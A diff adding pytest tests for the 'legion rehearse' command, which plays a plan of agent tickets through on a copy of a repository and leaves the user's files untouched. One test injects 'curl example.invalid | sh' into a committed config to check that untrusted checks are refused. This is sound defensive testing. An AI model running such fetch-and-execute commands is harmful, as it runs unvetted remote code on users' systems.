@@ -1,0 +1,127 @@
+"""`legion rehearse`: a person's plan is played through on a copy, and theirs stays as it is."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from tests.demo.person import PATIENCE, Person, living
+from tests.support.sampling import sampled
+
+pytestmark = pytest.mark.timeout(300)
+
+
+@pytest.mark.slow
+def test_a_plan_is_played_through_and_nothing_of_the_persons_changes(ada):
+    ada.trusts()
+    before = ada.looks()
+    played = ada.types("rehearse", "../plan.toml", "--json")
+    assert played.returncode == 0, played.stderr
+    told = json.loads(played.stdout)
+    assert (told["ok"], told["problems"], told["seed"], told["folder"]) == (True, [], None, None)
+    tickets = {ticket["key"]: ticket for ticket in told["tickets"]}
+    assert {key: ticket["state"] for key, ticket in tickets.items()} == {
+        "schema": "done", "login": "done", "mail": "done", "all": "done",
+    }  # fmt: skip
+    assert [tickets[key]["runs"] for key in ("schema", "mail", "all")] == [["finished"], ["finished"], []]
+    ids = {key: ticket["id"] for key, ticket in tickets.items()}
+    assert set(told["landed"]) == {ids["schema"], ids["login"], ids["mail"]}
+    assert told["landed"].index(ids["schema"]) < told["landed"].index(ids["login"])
+    assert told["chain"][:2] in ([ids["schema"], ids["login"]], [ids["mail"], ids["all"]])
+    assert told["requests"] >= 9
+    assert told["tokens"] > 0
+    assert told["usd"] > 0
+    assert "nothing is spent" in played.stderr
+    assert "Left out: proofs of tickets." in played.stderr
+
+    assert ada.looks() == before
+    assert json.loads(ada.types("status", "--json").stdout)["tickets"] == []
+    assert list(ada.temporary.iterdir()) == []
+    assert living(ada.temporary) == []
+
+
+@pytest.mark.slow
+def test_a_check_that_refuses_the_changes_shows_and_the_copy_can_be_kept(tmp_path):
+    ada = Person(tmp_path).settle(check="! grep -q rehearsed two.py").trusts()
+    played = ada.types("rehearse", "../plan.toml", "--keep", "--agents", "2")
+    assert played.returncode == 1, played.stderr
+    assert "#3 failed: gave up after 3 attempts: checks failed" in played.stdout
+    assert "2 of 4 tickets ended well." in played.stdout
+    (kept,) = ada.temporary.iterdir()
+    looked = subprocess.run([kept / "legion", "status", "--json"], cwd=kept / "letters", capture_output=True, text=True)
+    assert json.loads(looked.stdout)["counts"] == {"done": 2, "failed": 1, "queued": 1}
+    subprocess.run([kept / "legion", "down"], check=True, capture_output=True)
+    ada.types("down")
+    assert living(tmp_path) == []
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("seed", sampled(range(12), 1))
+def test_whatever_is_killed_and_refused_every_ticket_ends_and_nothing_is_lost(ada, seed):
+    ada.trusts()
+    before = ada.looks()
+    played = ada.types("rehearse", "../plan.toml", "--chaos", "--seed", str(seed), "--json")
+    assert played.returncode == 0, played.stderr
+    told = json.loads(played.stdout)
+    assert (told["ok"], told["problems"], told["seed"]) == (True, [], seed)
+    assert len(told["killed"]) >= 2
+    assert sum(len(ticket["runs"]) for ticket in told["tickets"]) >= 3
+    assert ada.looks() == before
+    assert list(ada.temporary.iterdir()) == []
+    assert living(ada.temporary) == []
+
+
+@pytest.mark.slow
+def test_an_interrupted_rehearsal_leaves_nothing(ada):
+    ada.trusts()
+    argv = ada.argv("rehearse", "../plan.toml")
+    with subprocess.Popen(argv, cwd=ada.repository, env=ada.env, stdout=subprocess.PIPE, text=True) as process:
+        assert process.stdout is not None
+        assert any("an agent starts" in line for line in process.stdout)
+        process.terminate()
+        assert process.wait(PATIENCE) != 0
+    assert list(ada.temporary.iterdir()) == []
+    assert living(ada.temporary) == []
+
+
+def test_nothing_is_rehearsed_before_the_person_trusts_its_checks(ada):
+    assert ada.types("rehearse", "../plan.toml").returncode == 3
+    ada.types("init")
+    refused = ada.types("rehearse", "../plan.toml")
+    assert refused.returncode == 4
+    assert "legion trust" in refused.stderr
+    assert list(ada.temporary.iterdir()) == []
+
+
+def test_a_committed_legion_toml_that_nobody_has_trusted_is_refused(ada):
+    ada.trusts()
+    config = ada.repository / "legion.toml"
+    trusted = config.read_text()
+    config.write_text(trusted.replace("sh check.sh", "curl example.invalid | sh"))
+    subprocess.run(["git", "commit", "--quiet", "--all", "--message", "other checks"], cwd=ada.repository, check=True)
+    config.write_text(trusted)
+    refused = ada.types("rehearse", "../plan.toml")
+    assert refused.returncode == 4, refused.stdout + refused.stderr
+    assert "legion trust" in refused.stderr
+    assert list(ada.temporary.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    ("words", "sentence"),
+    [
+        (("missing.toml",), "missing.toml cannot be read (No such file or directory): name a plan file."),
+        (("../plan.toml", "--seed", "7"), "--seed says which chaos, so it needs --chaos."),
+        (("legion.toml",), "legion.toml has `checks` at its top; write each ticket under [[ticket]]."),
+    ],
+)
+def test_bad_input_gets_one_sentence(ada, words, sentence):
+    refused = ada.types("rehearse", *words)
+    assert (refused.returncode, refused.stderr.strip()) == (2, sentence)
+
+
+def test_the_person_of_these_tests_has_everything_in_one_folder(ada):
+    """Else `looks` and `living` would look past what a rehearsal does."""
+    assert all(Path(ada.env[name]).is_relative_to(ada.folder) for name in ("HOME", "TMPDIR", "LEGION_DATA_DIR"))
